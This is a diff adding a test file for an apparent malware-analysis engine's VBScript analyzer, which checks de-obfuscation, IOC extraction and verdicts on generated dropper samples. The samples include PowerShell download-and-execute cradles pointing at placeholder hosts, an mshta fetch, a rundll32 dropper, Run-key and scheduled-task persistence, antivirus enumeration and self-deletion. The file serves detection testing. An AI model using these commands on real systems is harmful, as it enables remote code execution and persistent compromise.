@@ -1,0 +1,282 @@
+// The VBScript analyzer on generated droppers (test/generators/vbscript.ts): each obfuscation trick must be
+// undone down to the payload URL and the command, Execute layers peeled into children, .vbe decoded, WSF and
+// HTA blocks followed through the whole engine, admin scripts left benign, and hostile scripts (deep Execute
+// nesting, string bombs, endless loops, garbage) ending in a limit or a partial result, never a hang or a throw.
+
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { cmdlineAnalyzer } from '../src/analyzers/cmdline/index.ts';
+import { powershellAnalyzer } from '../src/analyzers/powershell/index.ts';
+import { vbscriptAnalyzer, evaluateVbscript } from '../src/analyzers/vbscript/index.ts';
+import { tokenize } from '../src/analyzers/vbscript/lexer.ts';
+import { htaAnalyzer, wsfAnalyzer } from '../src/analyzers/wsf/index.ts';
+import { analyze as analyzeReport } from '../src/analyze.ts';
+import { defaultConfig } from '../src/config.ts';
+import { analyzeSubmission, type AnalysisRun } from '../src/engine/submission.ts';
+import type { AnalysisContext, Artifact, EngineConfig } from '../src/engine/types.ts';
+import { buildReport } from '../src/verdict/report.ts';
+import {
+  adminInventoryScript,
+  adminLogonScript,
+  chrConcat,
+  chrwArithmetic,
+  downloader,
+  executeLayers,
+  hta,
+  literal,
+  replaceChain,
+  reversed,
+  scriptEncode,
+  shiftCipher,
+  splitJoin,
+  wsf,
+} from './generators/vbscript.ts';
+
+const URL_1 = 'http://cdn.invoice-files.example/q/77.dat';
+const PATH_1 = 'C:\\ProgramData\\77.dll';
+const RUN_1 = 'rundll32.exe C:\\ProgramData\\77.dll,DllRegisterServer';
+
+const ANALYZERS = [wsfAnalyzer, htaAnalyzer, cmdlineAnalyzer, powershellAnalyzer, vbscriptAnalyzer];
+
+async function run(text: string, name = 'invoice.vbs', limits: Partial<EngineConfig['limits']> = {}): Promise<AnalysisRun> {
+  const config = defaultConfig();
+  Object.assign(config.limits, limits);
+  return analyzeSubmission({ name, data: new TextEncoder().encode(text) }, { config, analyzers: ANALYZERS });
+}
+
+const ids = (r: AnalysisRun) => new Set(r.findings.map((f) => f.id));
+const iocs = (r: AnalysisRun, type: string) => r.iocs.filter((i) => i.type === type).map((i) => i.value);
+const commands = (r: AnalysisRun) => r.artifacts.filter((a) => a.relation === 'executed-command').map((a) => a.kind);
+const layers = (r: AnalysisRun) => r.artifacts.filter((a) => a.relation === 'decoded' && a.kind === 'vbscript');
+
+/** Runs one script with `value` hidden by `hide` and returns the command it runs. */
+function commandOf(script: string): string | undefined {
+  return evaluateVbscript(script, { vbscriptSteps: 2_000_000, maxDecodedBytes: 16 << 20 }).effects.runs[0]?.command;
+}
+
+test('tokenizer: continuations, separators, comments, doubled quotes, &H and &O numbers, any case', () => {
+  const { tokens } = tokenize('x = "a""b" & _\r\n  &H41 + &O17 : REM note\r\ny = 1 : w = 2 \' comment\r\nDIM z', 1000);
+  // A ':' separator and a line end are told apart (a one-line If ends at the line end); a run counts as one.
+  const text = tokens.map((t) => (t.type === 'eos' ? (t.text === ':' ? ':' : ';') : t.type === 'number' ? String(t.value) : t.text));
+  assert.deepEqual(text, ['x', '=', 'a"b', '&', '65', '+', '15', ';', 'y', '=', '1', ':', 'w', '=', '2', ';', 'DIM', 'z', ';']);
+  assert.equal(tokens.find((t) => t.text === 'DIM')!.lower, 'dim');
+  assert.equal(tokenize('n = &HFFFF', 100).tokens[2]!.value, -1, '&HFFFF is the Integer -1');
+});
+
+test('string tricks are undone: Chr, ChrW arithmetic, StrReverse, Replace chains, Split/Join, a decoder Function', () => {
+  const shell = 'Set s = CreateObject("WScript.Shell")\r\n';
+  const target = 'powershell -nop -w hidden -c "iwr http://x.example/a.ps1|iex"';
+  for (const [name, hide] of [
+    ['chr', chrConcat],
+    ['chrw', chrwArithmetic],
+    ['reverse', reversed],
+    ['replace', replaceChain],
+    ['join', splitJoin],
+  ] as const) {
+    assert.equal(commandOf(`${shell}c = ${hide(target)}\r\ns.Run c`), target, name);
+  }
+  const { fn, call } = shiftCipher(target);
+  assert.equal(commandOf(`${fn}\r\n${shell}s.Run ${call}, 0`), target, 'shift cipher in a Function');
+  // Mid/Left/Right/UCase/Hex/CInt/Array indexing and For loops building a string.
+  const parts = [
+    'Dim a(2), i, t',
+    'a(0) = "CALC" : a(1) = ".EXE"',
+    'For i = 0 To 1 : t = t & LCase(a(i)) : Next',
+    't = Left(t, 4) & Mid(t, 5) & Right(" /x", 0) & Chr(CInt("32")) & Hex(255) & Trim("  z ") & Len("abc")',
+    'Set s = CreateObject("WScript.Shell") : s.Run t',
+  ];
+  assert.equal(commandOf(parts.join('\r\n')), 'calc.exe FFz3');
+});
+
+test('a downloader saving with ADODB.Stream and running with WScript.Shell: URL, file, command, dropper verdict', async () => {
+  const r = await run(downloader({ url: URL_1, path: PATH_1, command: RUN_1, obfuscate: chrConcat }));
+  const found = ids(r);
+  for (const id of ['vbscript.download.url', 'vbscript.download.saved', 'vbscript.exec.command', 'vbscript.exec.hidden-window', 'vbscript.dropper.download-and-run', 'vbscript.obfuscation.char-codes', 'vbscript.evasion.sleep']) {
+    assert.ok(found.has(id), id);
+  }
+  assert.deepEqual(iocs(r, 'url'), [URL_1]);
+  assert.ok(r.iocs.some((i) => i.type === 'domain' && i.value === 'cdn.invoice-files.example' && i.role === 'payload-url'));
+  assert.ok(iocs(r, 'filename').includes(PATH_1));
+  assert.ok(iocs(r, 'command').includes(RUN_1));
+  assert.ok(r.artifacts.some((a) => a.relation === 'link' && a.kind === 'url' && a.name === URL_1));
+  assert.deepEqual(commands(r), ['cmdline'], 'the command goes to the command-line analyzer');
+  assert.ok(r.findings.some((f) => f.id === 'cmdline.run.rundll32'), 'which sees the rundll32 step');
+  assert.equal(buildReport(r).verdict, 'malicious');
+});
+
+test('Execute layers are peeled into decoded children down to the payload', async () => {
+  const inner = `CreateObject("WScript.Shell").Run ${literal('powershell -enc SQBFAFgA')}, 0`;
+  const r = await run(executeLayers(inner, 4));
+  assert.equal(layers(r).length, 4);
+  assert.ok(ids(r).has('vbscript.exec.layer'));
+  assert.ok(iocs(r, 'command').includes('powershell -enc SQBFAFgA'));
+  // Each layer is a child of the one before.
+  const chain = layers(r);
+  for (let i = 1; i < chain.length; i++) assert.equal(chain[i]!.parent, chain[i - 1]!.id);
+});
+
+test('.vbe: decoded with the shared Script Encoder decoder and routed as VBScript; encoded JScript stays JScript', async () => {
+  const script = downloader({ url: URL_1, path: PATH_1, command: RUN_1 });
+  const encoded = scriptEncode(script);
+  assert.ok(encoded.startsWith('#@~^') && !encoded.includes('ADODB'));
+  const r = await run(encoded, 'scan_0412.vbe');
+  assert.equal(r.artifacts[0]!.kind, 'vbscript');
+  assert.ok(ids(r).has('vbscript.obfuscation.encoded'));
+  assert.deepEqual(iocs(r, 'url'), [URL_1]);
+
+  const jse = scriptEncode('var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");');
+  const artifact: Artifact = { id: 'a1', parent: null, relation: 'root', kind: 'jse', name: 'x.jse', sha256: '', size: jse.length, depth: 0, data: new TextEncoder().encode(jse), meta: {} };
+  const result = await vbscriptAnalyzer.analyze(artifact, context());
+  assert.equal(result.kind, undefined, 'a JScript .jse is left to the JScript analyzer');
+});
+
+test('a WSF with a VBScript block goes through the whole engine (analyze) to a malicious verdict', async () => {
+  const body = downloader({ url: URL_1, path: PATH_1, command: RUN_1, obfuscate: reversed });
+  const report = await analyzeReport({ name: 'Invoice_0412.wsf', data: new TextEncoder().encode(wsf(body)) }, defaultConfig());
+  assert.equal(report.verdict, 'malicious');
+  const script = report.artifacts.find((a) => a.relation === 'script');
+  assert.equal(script?.kind, 'vbscript');
+  assert.ok(report.findings.some((f) => f.id === 'vbscript.dropper.download-and-run' && f.artifact === script!.id));
+  assert.ok(report.iocs.some((i) => i.type === 'url' && i.value === URL_1));
+  assert.ok(report.attack.includes('T1105') && report.attack.includes('T1059.005'));
+  // A VBScript.Encode block is decoded too.
+  const encoded = await run(wsf(scriptEncode(body), 'VBScript.Encode'), 'doc.wsf');
+  assert.ok(ids(encoded).has('vbscript.obfuscation.encoded'));
+  assert.deepEqual(iocs(encoded, 'url'), [URL_1]);
+});
+
+test('an HTA whose Window_OnLoad runs PowerShell: the handler nobody calls in the script is still read', async () => {
+  const r = await run(hta(`  CreateObject("WScript.Shell").Run ${chrConcat('powershell -w hidden -c "iex (iwr http://h.example/s)"')}, 0`), 'update.hta');
+  assert.ok(ids(r).has('vbscript.exec.hidden-window'));
+  assert.ok(iocs(r, 'command').some((c) => c.startsWith('powershell -w hidden')));
+});
+
+test('persistence and reconnaissance: Run key, scheduled task, WMI process creation, security products, self-delete', async () => {
+  const script = [
+    'Set sh = CreateObject("WScript.Shell")',
+    'sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "wscript.exe C:\\Users\\Public\\u.vbs", "REG_SZ"',
+    'Set svc = CreateObject("Schedule.Service") : svc.Connect',
+    'Set def = svc.NewTask(0)',
+    'Set act = def.Actions.Create(0)',
+    'act.Path = "C:\\Windows\\System32\\cmd.exe" : act.Arguments = "/c C:\\Users\\Public\\u.bat"',
+    'svc.GetFolder("\\").RegisterTaskDefinition "OneDrive Sync", def, 6, , , 3',
+    'Set wmi = GetObject("winmgmts:\\\\.\\root\\SecurityCenter2")',
+    'For Each av In wmi.ExecQuery("Select * From AntiVirusProduct") : n = av.displayName : Next',
+    'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "mshta http://h.example/p.hta", Null, Null, pid',
+    'CreateObject("Scripting.FileSystemObject").DeleteFile WScript.ScriptFullName',
+  ].join('\r\n');
+  const r = await run(script, 'u.vbs');
+  const found = ids(r);
+  for (const id of ['vbscript.persistence.run-key', 'vbscript.persistence.scheduled-task', 'vbscript.wmi.query', 'vbscript.recon.security-products', 'vbscript.evasion.self-delete', 'vbscript.registry.write']) {
+    assert.ok(found.has(id), id);
+  }
+  const cmds = iocs(r, 'command');
+  assert.ok(cmds.includes('C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\u.bat'), 'the task action');
+  assert.ok(cmds.includes('mshta http://h.example/p.hta'), 'Win32_Process.Create');
+  assert.ok(r.findings.some((f) => f.id === 'vbscript.exec.command' && f.evidence.startsWith('Win32_Process.Create')));
+  const attack = new Set(r.findings.flatMap((f) => f.attack));
+  for (const t of ['T1547.001', 'T1053.005', 'T1047', 'T1518.001', 'T1070.004']) assert.ok(attack.has(t), t);
+});
+
+test('MSXML bin.base64 decoding: an embedded layer is executed, an embedded executable is dropped', async () => {
+  const layer = 'CreateObject("WScript.Shell").Run "calc.exe"';
+  const exe = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60)]);
+  const script = [
+    'Function B64(s)',
+    '  Dim x : Set x = CreateObject("MSXML2.DOMDocument.6.0").createElement("b")',
+    '  x.DataType = "bin.base64" : x.Text = s',
+    '  B64 = x.nodeTypedValue',
+    'End Function',
+    'Function AsText(bytes)',
+    '  Dim st : Set st = CreateObject("ADODB.Stream")',
+    '  st.Type = 1 : st.Open : st.Write bytes : st.Position = 0 : st.Type = 2 : st.Charset = "us-ascii"',
+    '  AsText = st.ReadText',
+    'End Function',
+    `ExecuteGlobal AsText(B64("${Buffer.from(layer).toString('base64')}"))`,
+    'Set out = CreateObject("ADODB.Stream") : out.Type = 1 : out.Open',
+    `out.Write B64("${exe.toString('base64')}")`,
+    'out.SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\\svc.exe", 2',
+  ].join('\r\n');
+  const r = await run(script);
+  const found = ids(r);
+  for (const id of ['vbscript.obfuscation.base64', 'vbscript.exec.layer', 'vbscript.drop.embedded-executable', 'vbscript.drop.staging-folder']) assert.ok(found.has(id), id);
+  assert.ok(iocs(r, 'command').includes('calc.exe'), 'the decoded layer was analysed');
+  const dropped = r.artifacts.find((a) => a.relation === 'dropped-file');
+  assert.equal(dropped?.size, exe.length);
+  assert.equal(dropped?.kind, 'pe');
+});
+
+test('admin scripts stay benign', async () => {
+  for (const [name, script] of [
+    ['logon.vbs', adminLogonScript()],
+    ['inventory.vbs', adminInventoryScript()],
+  ] as const) {
+    const r = await run(script, name);
+    const report = buildReport(r);
+    assert.equal(report.verdict, 'benign', `${name}: ${report.score} ${r.findings.map((f) => f.id).join(', ')}`);
+    assert.equal(r.errors.length, 0, name);
+    assert.ok(!ids(r).has('vbscript.parse.incomplete'), `${name} parses`);
+  }
+  // The inventory script's Notepad call is still seen.
+  const r = await run(adminInventoryScript(), 'inventory.vbs');
+  assert.ok(iocs(r, 'command').includes('notepad.exe C:\\Reports\\inventory.csv'));
+});
+
+test('hostile: deep Execute nesting stops at maxDecodedLayers, or at the tree depth before it', async () => {
+  const script = executeLayers('CreateObject("WScript.Shell").Run "calc"', 40);
+  const r = await run(script, 'deep.vbs', { maxDecodedLayers: 8 });
+  assert.equal(layers(r).length, 8);
+  assert.ok(r.limits.some((l) => l.limit === 'maxDecodedLayers'));
+  const byDefault = await run(script, 'deep.vbs');
+  assert.equal(layers(byDefault).length, defaultConfig().limits.maxDepth);
+  assert.ok(byDefault.limits.some((l) => l.limit === 'maxDepth'));
+  assert.equal(r.errors.length + byDefault.errors.length, 0);
+});
+
+test('hostile: string bombs, endless loops, huge arrays, runaway recursion, deep nesting and garbage end in limits', async () => {
+  const bomb = await run('s = "AAAAAAAA"\r\nFor i = 1 To 64 : s = s & s : Next\r\nExecute s', 'bomb.vbs', { maxDecodedBytes: 1 << 20 });
+  assert.ok(bomb.limits.some((l) => l.limit === 'maxDecodedBytes'));
+  assert.ok(ids(bomb).has('vbscript.exec.opaque'), 'Execute of the unknown string is still reported');
+
+  const loop = await run('Do\r\n  n = n + 1\r\nLoop\r\nCreateObject("WScript.Shell").Run "after-the-loop.exe"', 'loop.vbs', { vbscriptSteps: 200_000 });
+  assert.ok(loop.limits.some((l) => l.limit === 'vbscriptSteps'));
+  assert.ok(iocs(loop, 'command').includes('after-the-loop.exe'), 'the loop is cut and the script goes on');
+
+  const steps = await run('For i = 1 To 10\r\nFor j = 1 To 100000 : x = x + 1 : Next\r\nNext', 'steps.vbs', { vbscriptSteps: 100_000 });
+  assert.ok(steps.limits.some((l) => l.limit === 'vbscriptSteps'));
+
+  const big = await run('Dim a(999999999)\r\nReDim b(2000000000)\r\nx = Space(2000000000) & String(2000000000, "A")', 'big.vbs', { maxDecodedBytes: 1 << 20 });
+  assert.ok(big.limits.some((l) => l.limit === 'maxDecodedBytes'));
+
+  const recursion = await run('Function F(x)\r\n  F = F(x & "a")\r\nEnd Function\r\ny = F("")', 'rec.vbs');
+  assert.ok(ids(recursion).has('vbscript.hostile.recursion'));
+
+  const deep = `x = ${'('.repeat(5000)}1${')'.repeat(5000)}\r\n${'If 1 Then\r\n'.repeat(3000)}y = ${'-'.repeat(5000)}1\r\nz = "a"${' & "b"'.repeat(200_000)}`;
+  const d = await run(deep, 'deep.vbs');
+  assert.ok(ids(d).has('vbscript.parse.incomplete'));
+  assert.equal(d.errors.length, 0);
+
+  let seed = 7;
+  const rnd = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
+  const alphabet = ['If ', 'Then', 'End If', 'For ', 'Next', 'Do', 'Loop', '(', ')', '"', '&', '_\r\n', ':', '\r\n', 'Execute ', 'Chr(', 'x', '=', '1', ',', '.', 'Sub ', 'End Sub', 'With ', 'Select Case ', 'Case ', 'Function ', "'", '&H', '#', '[', '\u0000', 'é'];
+  for (let i = 0; i < 150; i++) {
+    let text = '';
+    for (let j = 0; j < 200; j++) text += alphabet[Math.floor(rnd() * alphabet.length)]!;
+    const g = await run(text, 'garbage.vbs', { vbscriptSteps: 20_000 });
+    assert.equal(g.errors.length, 0, JSON.stringify(text));
+  }
+});
+
+function context(): AnalysisContext {
+  const config = defaultConfig();
+  return {
+    limits: config.limits,
+    email: {},
+    fetchMode: 'off',
+    signal: new AbortController().signal,
+    services: {},
+    config,
+    passwordCandidates: () => [],
+    claimFetch: () => true,
+  };
+}
